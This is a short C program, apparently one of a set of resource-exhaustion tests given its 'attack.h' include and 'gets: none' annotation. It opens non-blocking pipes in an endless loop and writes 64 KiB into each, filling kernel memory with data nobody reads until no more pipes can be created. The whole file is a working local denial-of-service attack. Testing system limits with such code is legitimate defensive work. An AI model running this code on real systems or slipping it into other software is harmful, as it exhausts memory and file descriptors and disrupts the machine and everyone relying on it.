// Fills the kernel with bytes that nobody reads.
// gets: none
#include "attack.h"

int main() {
  static char block[1 << 16];
  int ends[2];
  while (pipe2(ends, O_NONBLOCK) == 0) Quietly(write(ends[1], block, sizeof block));
  return 1;
}
